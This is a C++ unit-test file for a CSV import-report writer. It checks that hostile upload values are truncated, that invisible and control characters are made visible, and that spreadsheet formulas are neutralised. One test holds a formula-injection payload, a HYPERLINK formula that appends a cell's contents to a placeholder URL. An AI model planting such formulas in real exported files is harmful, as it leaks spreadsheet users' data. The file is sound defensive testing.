// SPDX-License-Identifier: AGPL-3.0-or-later
// Tests for io/import_report: the row-level import report (security-model.md
// §4 row 19: "row-level report; no silent drop") written as a guarded CSV.
// Hostile cases: a 10 MB value (only 16 characters echoed), U+202E, zero-width
// and C0/C1 controls made visible, invalid UTF-8 bytes, a formula as a header
// name and as a value, an end-to-end run over a dirty upload where every data
// row gets exactly one report line.
#include "io/import_report.h"

#include <gtest/gtest.h>

#include <sstream>
#include <string>

#include "io/csv_reader.h"

namespace hotshop::io {
namespace {

TEST(SafeExcerpt, ShortCleanValueIsUnchanged) {
  EXPECT_EQ(SafeExcerpt("Dolores Huerta"), "Dolores Huerta");
  EXPECT_EQ(SafeExcerpt("Duss\xC3\xA1n"), "Duss\xC3\xA1n");
  EXPECT_EQ(SafeExcerpt(""), "");
}

TEST(SafeExcerpt, LongValueIsCutWithAnEllipsis) {
  const std::string big(10'000'000, 'x');
  const std::string e = SafeExcerpt(big);
  EXPECT_EQ(e, std::string(16, 'x') + "\xE2\x80\xA6");
  EXPECT_EQ(SafeExcerpt("abcdef", 3), "abc\xE2\x80\xA6");
}

TEST(SafeExcerpt, InvisibleAndControlCharactersBecomeVisible) {
  EXPECT_EQ(SafeExcerpt("\xE2\x80\xAE" "evil"), "<U+202E>evil");
  EXPECT_EQ(SafeExcerpt("a\xE2\x80\x8B" "b"), "a<U+200B>b");
  EXPECT_EQ(SafeExcerpt(std::string("a\0b\n", 4)), "a<U+0000>b<U+000A>");
  EXPECT_EQ(SafeExcerpt("\xC2\x85" "x"), "<U+0085>x");
  EXPECT_EQ(SafeExcerpt("\xE2\x81\xA6" "x"), "<U+2066>x");
  EXPECT_EQ(SafeExcerpt("bad\xFF" "byte"), "bad<0xFF>byte");
}

TEST(SafeExcerpt, EscapesCountTowardTheLimit) {
  std::string many;
  for (int i = 0; i < 40; ++i) many += "\xE2\x80\xAE";
  const std::string e = SafeExcerpt(many, 4);
  EXPECT_EQ(e, "<U+202E><U+202E><U+202E><U+202E>\xE2\x80\xA6");
}

TEST(ImportReport, WritesHeaderRowsAndCounts) {
  std::ostringstream out;
  ImportReportWriter report(out);
  ASSERT_TRUE(report.Add(2, "", "", "", ImportAction::kCreated).ok());
  ASSERT_TRUE(report.Add(3, "cell", "phone number is too short", "12345",
                         ImportAction::kRejected).ok());
  ASSERT_TRUE(report.Add(4, "email", "same email as an existing contact",
                         "ann@example.org", ImportAction::kDuplicateSuggested).ok());
  ASSERT_TRUE(report.Finish().ok());
  EXPECT_EQ(out.str(),
            "line,column,action,problem,excerpt\r\n"
            "2,,created,,\r\n"
            "3,cell,rejected,phone number is too short,12345\r\n"
            "4,email,duplicate_suggested,same email as an existing contact,"
            "ann@example.org\r\n");
  EXPECT_EQ(report.counts().total(), 3u);
  EXPECT_EQ(report.counts().of(ImportAction::kRejected), 1u);
  EXPECT_EQ(report.counts().problems, 2u);
}

TEST(ImportReport, FormulasInHeaderAndValueAreGuardedAndCut) {
  std::ostringstream out;
  ImportReportWriter report(out);
  ASSERT_TRUE(report.Add(7, "=HYPERLINK(\"http://x/?\"&A2)", "name looks odd",
                         "=HYPERLINK(\"http://x/?\"&A2)", ImportAction::kCreated)
                  .ok());
  ASSERT_TRUE(report.Finish().ok());
  std::istringstream in(out.str());
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_EQ(rec[1], "'=HYPERLINK(\"http://x/?\"&A2)");
  EXPECT_EQ(rec[4], "'=HYPERLINK(\"http\xE2\x80\xA6");
}

TEST(ImportReport, ActionNamesAreStable) {
  EXPECT_EQ(ImportActionName(ImportAction::kCreated), "created");
  EXPECT_EQ(ImportActionName(ImportAction::kUpdated), "updated");
  EXPECT_EQ(ImportActionName(ImportAction::kSkipped), "skipped");
  EXPECT_EQ(ImportActionName(ImportAction::kRejected), "rejected");
  EXPECT_EQ(ImportActionName(ImportAction::kDuplicateSuggested),
            "duplicate_suggested");
}

// A dirty upload end to end: every data row gets exactly one report line.
TEST(ImportReport, EveryRowOfADirtyUploadIsAccountedFor) {
  std::string upload = "\xEF\xBB\xBF" "firstName,lastName,cell\r\n"
                       "Ana,Lopez,2135550100\r\n"        // clean
                       "Bo\xE2\x80\xAE,X,213\n"           // bidi; short phone
                       "Cy,\"unclosed,2135550101\r\n"     // swallows the rest
                       "Di,Ng,2135550102\r\n";
  std::istringstream in(upload);
  Result<CsvReader> reader = CsvReader::Open(in);
  ASSERT_TRUE(reader.ok());
  std::ostringstream out;
  ImportReportWriter report(out);
  CsvRecord rec;
  uint64_t rows = 0;
  while (*reader->Next(rec)) {
    ++rows;
    if (rec.damaged()) {
      ASSERT_TRUE(report.Add(rec.line(), "", rec.Describe(), rec.CellOr(0),
                             ImportAction::kRejected).ok());
    } else if (rec.CellOr(2).size() < 10) {
      ASSERT_TRUE(report.Add(rec.line(), "cell", "phone number is too short",
                             rec.CellOr(2), ImportAction::kRejected).ok());
    } else {
      ASSERT_TRUE(report.Add(rec.line(), "", "", "", ImportAction::kCreated).ok());
    }
  }
  ASSERT_TRUE(report.Finish().ok());
  EXPECT_EQ(report.counts().total(), rows);
  EXPECT_EQ(rows, 3u);
  EXPECT_EQ(report.counts().of(ImportAction::kRejected), 2u);
  EXPECT_NE(out.str().find("lines 4-5"), std::string::npos) << out.str();
}

// --- Incorrect usage -------------------------------------------------------

TEST(ImportReportIncorrectUsage, EmptyReportStillHasItsHeader) {
  std::ostringstream out;
  ImportReportWriter report(out);
  ASSERT_TRUE(report.Finish().ok());
  EXPECT_EQ(out.str(), "line,column,action,problem,excerpt\r\n");
  EXPECT_EQ(report.counts().total(), 0u);
}

TEST(ImportReportIncorrectUsage, BrokenStreamIsReported) {
  std::ostringstream out;
  out.setstate(std::ios::badbit);
  ImportReportWriter report(out);
  ASSERT_TRUE(report.Add(2, "", "", "", ImportAction::kSkipped).ok());
  Status s = report.Finish();
  ASSERT_FALSE(s.ok());
  EXPECT_TRUE(s.error().Is(ErrorCode::kUnavailable));
}

}  // namespace
}  // namespace hotshop::io
